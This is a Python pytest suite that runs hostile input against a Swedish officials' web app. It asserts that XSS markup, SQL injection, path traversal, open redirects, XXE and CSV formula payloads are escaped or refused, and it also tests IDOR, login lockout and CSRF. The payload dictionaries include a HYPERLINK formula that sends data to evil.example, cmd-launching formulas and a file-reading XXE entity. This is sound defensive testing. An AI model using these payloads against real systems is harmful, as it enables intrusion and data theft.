"""Hostile-input suite for the officials' app (issue 8).

Every form and query of ``/handlaggare`` gets the payload list (empty, whitespace, 1 MB, control
characters, emoji/ZWJ/RTL, invalid UTF-8, wrong content types, SQL injection, script/onerror/
ontoggle/javascript: markup, CSV formulas). Each must answer without a 5xx, store nothing that
should not be stored, and show whatever is stored as inert text. Plus: IDOR on case ids across
units (every action URL), login brute force (lockout per account and per address), CSRF without
a token, with a wrong one and with another session's on every POST route (found in the router,
so pages added later are covered too), and formula neutralisation in the CSV exports.
The real-browser check of stored markup is ``tests/officials_browser/test_hostile_browser.py``.
"""

from __future__ import annotations

import csv
import functools
import io
import re
import sqlite3
import unicodedata
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

import pytest
from argon2 import PasswordHasher
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from sanic import Sanic

from bot.accounts import UserRecord, UserRepository
from bot.cases import ALL_CASES, CaseRecord, CaseRepository
from bot.settings import Settings

from .asgi import Client, Response
from .conftest import PASSWORD, add_tracker_event, csrf_for, login, make_case

MARKUP = {
    "script": "<script>window.__pwned=1</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "javascript_url": "javascript:alert(document.cookie)",
    "attribute_breakout": '"><svg onload=alert(1)>',
    "template": "{{ 7*7 }}{% print('x') %}",
}
CSV_FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
PAYLOADS = {
    "empty": "",
    "whitespace": " \t\n \u00a0 ",
    "control": "a\x00b\x01c\x1b[31md\x7f",
    "emoji_zwj": "👩\u200d👩\u200d👧\u200d👦 🇸🇪 👍🏽",
    "rtl": "مرحبا עברית \u202egnp.exe\u202c \u2067x\u2069",
    "sql_quote": "' OR 1=1; --",
    "sql_drop": "Robert'); DROP TABLE cases;--",
    "sql_union": "x' UNION SELECT email, password_hash FROM users --",
    "like_wildcards": "%_%\\",
    "path": "../../../../etc/passwd",
    "open_redirect": "//evil.example/handlaggare/",
    "open_redirect_backslash": "/handlaggare/\\evil.example",
    "absolute_url": "https://evil.example/handlaggare/",
    "long_line": "Å" * 5000,
    **MARKUP,
    **CSV_FORMULAS,
}
ONE_MEGABYTE = "A" * 1_000_000
# nginx passes request lines up to 8 KB by default (large_client_header_buffers) and Sanic's own
# server refuses longer headers (413): a longer query never reaches the app.
LONGEST_QUERY = "Ö" * 1300
INVALID_UTF8 = b"\xff\xfe\xc3\x28\xa0\xa1\xed\xa0\x80"
BASE_CHROME = 'href="/static/officials.css"'


OWN_PAGES = tuple(
    f"/handlaggare/{page}" for page in ("logga-in", "arenden", "anvandare", "personuppgifter")
)


def assert_no_5xx(response: Response, *what: object) -> None:
    assert response.status < 500, (what, response.status, response.text[:500])


class _ActiveMarkup(HTMLParser):
    """Collects what a browser would run: script elements, on* handlers, javascript: URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "img", "details"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            url = (value or "").strip().lower()
            if name in ("href", "src", "action", "formaction") and url.startswith("javascript:"):
                self.found.append(f"<{tag} {name}={url}>")


def active_markup(html: str) -> list[str]:
    """Return the elements and attributes in the page that would execute."""
    parser = _ActiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(response: Response, what: str = "") -> None:
    """No markup from a payload came through unescaped: nothing in the page would execute."""
    if "html" not in (response.header("content-type") or ""):
        return
    assert active_markup(response.text) == [], what


def printable(text: str) -> bool:
    """No control characters (line breaks, ZWJ and right-to-left marks are fine)."""
    return all(char == "\n" or unicodedata.category(char) not in ("Cc", "Cs") for char in text)


def snapshot(settings: Settings) -> dict[str, list[tuple[object, ...]]]:
    """Every row of every table in the case log and the tracker store."""
    tables: dict[str, list[tuple[object, ...]]] = {}
    for url in (settings.database_url, settings.tracker_store_url):
        with sqlite3.connect(url.removeprefix("sqlite:///")) as connection:
            names = [
                row[0]
                for row in connection.execute(
                    "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
                )
            ]
            for name in names:
                tables[f"{url}:{name}"] = sorted(
                    connection.execute(f'SELECT * FROM "{name}"').fetchall(),
                    key=repr,
                )
    return tables


def post_routes(app: Sanic, case_id: int, user_id: int) -> list[str]:
    """Every POST URL of the officials' app, read from the router, with concrete parameters."""
    values = {
        "action": ["tilldela", "svar", "anteckning", "avsluta", "ateroppna", "okand"],
        "state": ["aktivera", "inaktivera"],
        "case_id": [str(case_id)],
        "user_id": [str(user_id)],
    }
    urls: list[str] = []
    for route in app.router.routes:
        if "POST" not in route.methods or not route.path.startswith("handlaggare"):
            continue
        expanded = ["/" + route.path]
        for name in re.findall(r"<(\w+)(?::\w+)?>", route.path):
            choices = values.get(name, ["1" if ":int>" in route.path else "x"])
            expanded = [
                re.sub(rf"<{name}(?::\w+)?>", choice, url) for url in expanded for choice in choices
            ]
        urls.extend(expanded)
    return urls


@pytest.fixture(autouse=True)
def cheap_password_hashing(monkeypatch: pytest.MonkeyPatch) -> None:
    """The app's argon2 with the test accounts' cheap parameters: the suite hashes hundreds."""
    monkeypatch.setattr(
        "bot.accounts.PasswordHasher",
        functools.partial(PasswordHasher, time_cost=1, memory_cost=1024, parallelism=1),
    )


@pytest.fixture
def cases_of_two_units(cases: CaseRepository, settings: Settings) -> tuple[CaseRecord, CaseRecord]:
    own = make_case(cases, "own", company="Egen Bygg AB")
    other = make_case(cases, "other", unit="miljo", company="Hemlig Miljö AB")
    add_tracker_event(settings, other.conversation_id, "user", "Hemligt samtal", 1.0)
    return own, other


# --- payloads in every form and query -------------------------------------------------------


async def test_login_form_survives_every_payload(client: Client, official: UserRecord) -> None:
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        browser = Client(client.app)  # a fresh session and address per payload
        token = await csrf_for(browser, f"/handlaggare/logga-in?nasta={quote(payload)}")
        for index, form in enumerate(
            (
                {"email": payload, "password": payload, "nasta": payload},
                {"email": official.email, "password": payload},
            )
        ):
            response = await browser.post(
                "/handlaggare/logga-in",
                {"csrf_token": token, **form},
                client=f"10.0.{number}.{index}",
            )
            assert_no_5xx(response, name, form)
            assert response.status == 401 and "Fel e-postadress eller lösenord." in response.text
            assert_inert(response, name)
        # A payload as the target after a good login never leads off the officials' app.
        response = await browser.post(
            "/handlaggare/logga-in",
            {"csrf_token": token, "email": official.email, "password": PASSWORD, "nasta": payload},
            client=f"10.0.{number}.9",
        )
        assert response.status == 303, name
        assert (response.location or "").startswith("/handlaggare"), name


async def test_every_query_of_lists_dashboard_and_exports_survives_every_payload(
    client: Client, cases: CaseRepository, admin: UserRecord
) -> None:
    make_case(cases, "a", company="Lotsby Bygg AB")
    await login(client, admin.email)
    case_params = ["enhet", "amne", "tillstand", "status", "forsenade"]
    case_params += ["fran", "till", "sok", "sortering", "sida"]
    figure_params = ["period", "gruppering", "fran", "till"]
    pages = {
        "/handlaggare/arenden": case_params,
        "/handlaggare/export/arenden.csv": case_params,
        "/handlaggare/oversikt": figure_params,
        "/handlaggare/export/statistik.csv": figure_params,
        "/handlaggare/logga-in": ["nasta"],
        "/handlaggare/personuppgifter": ["email", "telefon"],
    }
    for name, payload in [*PAYLOADS.items(), ("longest_query", LONGEST_QUERY)]:
        for path, params in pages.items():
            # Every parameter at once; one at a time when that would be longer than any request
            # line that reaches the app.
            limit = len(urlencode({"x": LONGEST_QUERY}))
            query = urlencode(dict.fromkeys(params, payload))
            queries = [query] if len(query) <= limit else [urlencode({n: payload}) for n in params]
            for query in queries:
                response = await client.get(f"{path}?{query}")
                assert_no_5xx(response, name, (path, query))
                assert response.status in (200, 302), (name, path, query, response.status)
                assert_inert(response, name)


FORM_TEXT = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=200),
    st.sampled_from(list(PAYLOADS.values())),
)


@hypothesis_settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(email=FORM_TEXT, password=FORM_TEXT, next_url=FORM_TEXT)
async def test_login_fields_property_no_5xx_and_never_off_site(
    client: Client, official: UserRecord, email: str, password: str, next_url: str
) -> None:
    token = await csrf_for(client, "/handlaggare/logga-in")
    form = {"csrf_token": token, "email": email, "password": password, "nasta": next_url}
    refused = await client.post("/handlaggare/logga-in", form, client="10.9.0.1")
    assert refused.status == 401
    assert_inert(refused)
    good = {**form, "email": official.email, "password": PASSWORD}
    accepted = await client.post("/handlaggare/logga-in", good, client="10.9.0.2")
    assert accepted.status in (303, 401)  # 401 once the account is locked by the guesses
    target = accepted.location or "/handlaggare"
    assert target.startswith("/handlaggare") and "//" not in target


async def test_case_actions_store_payloads_only_as_inert_text(
    client: Client, cases: CaseRepository, official: UserRecord
) -> None:
    await login(client, official.email)
    token = await csrf_for(client)
    for name, payload in [*PAYLOADS.items(), ("1mb", ONE_MEGABYTE)]:
        case = make_case(cases, name)
        url = f"/handlaggare/arenden/{case.id}"
        for action, form in [
            ("anteckning", {"note": payload}),
            ("svar", {"channel": payload, "note": payload}),
            ("tilldela", {"assignee": payload}),
            ("svar", {"channel": "email", "note": payload}),
            ("avsluta", {"note": payload}),
            ("ateroppna", {"note": payload}),
        ]:
            response = await client.post(f"{url}/{action}", {"csrf_token": token, **form})
            assert_no_5xx(response, name, action)
            assert response.status in (303, 409, 413), (name, action, response.status)
            assert_inert(response, name)
        page = await client.get(url)
        assert page.status == 200
        assert_inert(page, name)
        for event in cases.events(case.id):
            note = event.note or ""
            assert printable(note), note
            assert len(note) <= 4100
        if payload.strip() and len(payload) < 4000 and payload in MARKUP.values():
            assert payload.replace("<", "&lt;").replace(">", "&gt;")[:20] in page.text.replace(
                "&#34;", '"'
            ).replace("&#39;", "'")


async def test_user_admin_form_survives_every_payload(
    client: Client, admin: UserRecord, users: UserRepository
) -> None:
    await login(client, admin.email)
    token = await csrf_for(client, "/handlaggare/anvandare")
    for name, payload in [*PAYLOADS.items(), ("1mb", ONE_MEGABYTE)]:
        forms = [
            {
                "email": payload,
                "name": payload,
                "role": payload,
                "unit": payload,
                "password": payload,
            },
            {"email": "ny@lotsby.se", "name": payload, "role": "trainer", "password": PASSWORD},
            {"email": f"{payload}@lotsby.se", "name": "N", "role": "trainer", "password": PASSWORD},
            {"email": "ny2@lotsby.se", "name": "N", "role": payload, "password": PASSWORD},
            {"email": "ny3@lotsby.se", "name": "N", "role": "trainer", "password": payload},
        ]
        for form in forms:
            response = await client.post("/handlaggare/anvandare", {"csrf_token": token, **form})
            assert_no_5xx(response, name, form)
            assert response.status in (303, 400, 413), (name, form, response.status)
            assert_inert(response, name)
        page = await client.get("/handlaggare/anvandare")
        assert_inert(page, name)
        for account in users.all():
            assert not any(
                unicodedata.category(char) == "Cc" for char in account.name + account.email
            )
            assert account.role in ("official", "trainer", "admin")
        for state in (payload, "aktivera"):
            user_part = quote(payload[:100], safe="") or "x"
            state_part = quote(state[:100], safe="") or "x"
            response = await client.post(
                f"/handlaggare/anvandare/{user_part}/{state_part}", {"csrf_token": token}
            )
            assert_no_5xx(response, name, state)


async def test_person_pages_survive_every_payload(
    client: Client, admin: UserRecord, cases: CaseRepository, settings: Settings
) -> None:
    make_case(cases, "a")
    await login(client, admin.email)
    token = await csrf_for(client, "/handlaggare/personuppgifter")
    before = snapshot(settings)
    for name, payload in [*PAYLOADS.items(), ("1mb", ONE_MEGABYTE)]:
        for path in ("", "/export", "/radera"):
            for form in (
                {"email": payload, "telefon": payload, "bekrafta": payload, "steg": payload},
                {"email": payload, "telefon": "", "bekrafta": "ja"},
                {"email": "", "telefon": payload, "bekrafta": "ja"},
            ):
                response = await client.post(
                    f"/handlaggare/personuppgifter{path}", {"csrf_token": token, **form}
                )
                assert_no_5xx(response, name, (path, form))
                assert response.status in (200, 400, 413), (name, path, response.status)
                assert_inert(response, name)
    assert snapshot(settings) == before  # no payload matched anybody: nothing changed


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/x-www-form-urlencoded", INVALID_UTF8),
        ("application/x-www-form-urlencoded", b"note=" + INVALID_UTF8 + b"&channel=%FF%FE"),
        ("application/x-www-form-urlencoded", b"%%%&&&===" + b"\x00" * 10),
        ("application/json", b'{"note": "x", "email": ["a"]}'),
        ("application/json", INVALID_UTF8),
        ("text/plain", b"note=hej"),
        ("multipart/form-data", b"--x\r\nbroken"),
        (
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data\r\n\r\n\xff\r\n--x--",
        ),
        (
            "application/xml",
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        ),
        ("", b"\x00\x01\x02"),
    ],
    ids=[
        "form_invalid_utf8",
        "form_field_invalid_utf8",
        "form_garbage",
        "json",
        "json_invalid_utf8",
        "text_plain",
        "multipart_without_boundary",
        "multipart_invalid_utf8",
        "xml_entity",
        "no_content_type",
    ],
)
async def test_every_post_route_survives_wrong_bodies_and_content_types(
    client: Client,
    cases: CaseRepository,
    admin: UserRecord,
    official: UserRecord,
    settings: Settings,
    content_type: str,
    body: bytes,
) -> None:
    case = make_case(cases, "a")
    await login(client, admin.email)
    token = await csrf_for(client)
    urls = [url for url in post_routes(client.app, case.id, official.id) if "logga-ut" not in url]
    before = snapshot(settings)
    for url in urls:  # without a token (not readable from a broken body): refused, no change
        response = await client.post(url, body=body, content_type=content_type)
        assert response.status == 403, url
    assert snapshot(settings) == before
    # With the token in the header the handlers read the broken body. The NLU inbox and model
    # pages (issue 5) are left to their own tests: a POST there may start a training.
    for url in [url for url in urls if url.startswith(OWN_PAGES)]:
        response = await client.post(
            url, body=body, content_type=content_type, headers={"x-csrf-token": token}
        )
        assert_no_5xx(response, url)
        assert_inert(response)
    for event in cases.events(case.id):
        assert event.note is None or printable(event.note), event.note


# --- stored markup, IDOR, brute force, CSRF, CSV ------------------------------------------------


async def test_stored_markup_is_shown_as_text_on_the_case_list_and_page(
    client: Client, cases: CaseRepository, official: UserRecord, settings: Settings
) -> None:
    payloads = list(MARKUP.values())
    case = make_case(cases, "x", company=" ".join(payloads)[:200], description=" ".join(payloads))
    for index, payload in enumerate(payloads):
        add_tracker_event(settings, case.conversation_id, "user", payload, float(index))
    add_tracker_event(settings, case.conversation_id, "user", "pnr 19900101-0017", 99.0)
    await login(client, official.email)
    url = f"/handlaggare/arenden/{case.id}"
    token = await csrf_for(client, url)
    for payload in payloads:
        await client.post(f"{url}/anteckning", {"csrf_token": token, "note": payload})
    for page in (await client.get(url), await client.get("/handlaggare/arenden")):
        assert page.status == 200
        assert_inert(page)
        assert BASE_CHROME in page.text
    page = await client.get(url)
    assert page.text.count("&lt;script&gt;window.__pwned=1&lt;/script&gt;") >= 3
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
    assert "javascript:alert(document.cookie)" in page.text  # as text, never as a link
    assert 'href="javascript:' not in page.text
    assert "{{ 7*7 }}" in page.text and ">49<" not in page.text  # no template evaluation
    assert "19900101-0017" not in page.text and "[personnummer]" in page.text


async def test_cases_of_another_unit_cannot_be_seen_or_changed_by_id(
    client: Client,
    cases: CaseRepository,
    official: UserRecord,
    cases_of_two_units: tuple[CaseRecord, CaseRecord],
) -> None:
    own, other = cases_of_two_units
    await login(client, official.email)
    token = await csrf_for(client)
    missing = await client.get("/handlaggare/arenden/999999")
    page = await client.get(f"/handlaggare/arenden/{other.id}")
    assert page.status == missing.status == 404
    assert page.text == missing.text.replace("999999", str(other.id))  # no difference to learn
    assert "Hemlig" not in page.text
    for action in ("tilldela", "svar", "anteckning", "avsluta", "ateroppna", "okand"):
        response = await client.post(
            f"/handlaggare/arenden/{other.id}/{action}",
            {"csrf_token": token, "note": "x", "channel": "phone", "assignee": str(official.id)},
        )
        assert response.status == 404, action
        assert "Hemlig" not in response.text
    assert [event.kind for event in cases.events(other.id)] == ["created"]
    stored = cases.get(other.id, ALL_CASES)
    assert stored is not None and stored.status == "open" and stored.assigned_to is None
    for query in (
        "enhet=miljo",
        f"sok={other.reference}",
        "sok=Hemlig",
        "enhet=miljo&status=open&sortering=company",
    ):
        listed = await client.get(f"/handlaggare/arenden?{query}")
        exported = await client.get(f"/handlaggare/export/arenden.csv?{query}")
        assert listed.status == exported.status == 200
        assert "Hemlig Miljö AB" not in listed.text and "Hemlig" not in exported.text
        assert f">{other.reference}<" not in listed.text  # no row (the search box echoes it)
        assert other.reference not in exported.text
    # Negative, zero, huge and non-numeric ids are simply not found.
    for case_id in ("0", "-1", "99999999999999999999", "1e3", "%20", "1;drop"):
        response = await client.get(f"/handlaggare/arenden/{case_id}")
        assert response.status == 404, case_id
    # An official may not reach the admins' pages either.
    for url in ("/handlaggare/anvandare", "/handlaggare/personuppgifter"):
        assert (await client.get(url)).status == 403
    assert own.id != other.id


async def test_assigning_to_an_official_of_another_unit_is_refused(
    client: Client, cases: CaseRepository, official: UserRecord, other_official: UserRecord
) -> None:
    case = make_case(cases, "a")
    await login(client, official.email)
    token = await csrf_for(client)
    response = await client.post(
        f"/handlaggare/arenden/{case.id}/tilldela",
        {"csrf_token": token, "assignee": str(other_official.id)},
    )
    assert response.status == 409 and "annan enhet" in response.text
    stored = cases.get(case.id, ALL_CASES)
    assert stored is not None and stored.assigned_to is None


async def test_login_brute_force_locks_the_account_and_the_address(
    client: Client, official: UserRecord, other_official: UserRecord
) -> None:
    token = await csrf_for(client, "/handlaggare/logga-in")

    async def attempt(email: str, password: str, address: str) -> Response:
        return await client.post(
            "/handlaggare/logga-in",
            {"email": email, "password": password, "csrf_token": token},
            client=address,
        )

    for guess in range(5):  # from five addresses: the account's own counter locks it
        assert (await attempt(official.email, f"gissning-{guess}", f"10.1.0.{guess}")).status == 401
    locked = await attempt(official.email, PASSWORD, "10.1.0.99")
    assert locked.status == 401 and "För många misslyckade inloggningar" in locked.text
    # One address guessing many accounts is locked for every account, the right password too.
    for index in range(20):
        await attempt(f"gissad{index}@lotsby.se", "fel", "10.2.0.1")
    from_attacker = await attempt(other_official.email, PASSWORD, "10.2.0.1")
    assert from_attacker.status == 401 and "För många" in from_attacker.text
    from_elsewhere = await attempt(other_official.email, PASSWORD, "10.3.0.1")
    assert from_elsewhere.status == 303  # the real user elsewhere is not locked out


@pytest.mark.parametrize("token_kind", ["missing", "empty", "wrong", "other_session", "tampered"])
async def test_every_post_route_refuses_a_missing_or_wrong_csrf_token(
    client: Client,
    cases: CaseRepository,
    admin: UserRecord,
    official: UserRecord,
    settings: Settings,
    token_kind: str,
) -> None:
    case = make_case(cases, "a", contact_email="kim@foretag.se")
    other = Client(client.app)
    await login(other, admin.email)
    foreign = await csrf_for(other)
    await login(client, admin.email)
    own = await csrf_for(client)
    tokens = {
        "missing": None,
        "empty": "",
        "wrong": "0" * 64,
        "other_session": foreign,
        "tampered": own[:-1] + ("0" if own[-1] != "0" else "1"),
    }
    token = tokens[token_kind]
    form = {
        "note": "x",
        "channel": "phone",
        "assignee": str(official.id),
        "email": "kim@foretag.se",
        "bekrafta": "ja",
        "steg": "bekrafta",
        "name": "X",
        "role": "admin",
        "password": PASSWORD,
    }
    if token is not None:
        form["csrf_token"] = token
    before = snapshot(settings)
    urls = post_routes(client.app, case.id, official.id)
    assert len(urls) >= 12
    for url in urls:
        response = await client.post(url, form)
        assert response.status == 403, url
        assert "Formuläret har gått ut" in response.text
    assert snapshot(settings) == before
    assert (await client.get("/handlaggare/arenden")).status == 200  # still logged in


async def test_a_csrf_token_in_the_header_of_another_session_is_refused(
    client: Client, cases: CaseRepository, official: UserRecord, admin: UserRecord
) -> None:
    case = make_case(cases, "x")
    other = Client(client.app)
    await login(other, admin.email)
    foreign = await csrf_for(other)
    await login(client, official.email)
    response = await client.post(
        f"/handlaggare/arenden/{case.id}/anteckning",
        {"note": "x"},
        headers={"x-csrf-token": foreign},
    )
    assert response.status == 403
    assert [event.kind for event in cases.events(case.id)] == ["created"]


async def test_csv_exports_neutralise_every_formula_and_keep_the_scope(
    client: Client, cases: CaseRepository, official: UserRecord
) -> None:
    for index, formula in enumerate(CSV_FORMULAS.values()):
        make_case(cases, f"f{index}", company=formula)
    make_case(cases, "other", unit="miljo", company="Annan Miljö AB")
    await login(client, official.email)
    response = await client.get("/handlaggare/export/arenden.csv")
    assert response.status == 200
    assert response.header("content-type") == "text/csv; charset=utf-8"
    assert "attachment" in (response.header("content-disposition") or "")
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][0] == "ärendenummer"
    companies = sorted(row[6] for row in rows[1:])
    assert companies == sorted("'" + formula for formula in CSV_FORMULAS.values())
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "kim@foretag.se" not in response.text  # no contact details in exports
    assert "Annan Miljö AB" not in response.text
    figures = await client.get("/handlaggare/export/statistik.csv?period=week")
    for row in csv.reader(io.StringIO(figures.text.lstrip("\ufeff")), delimiter=";"):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
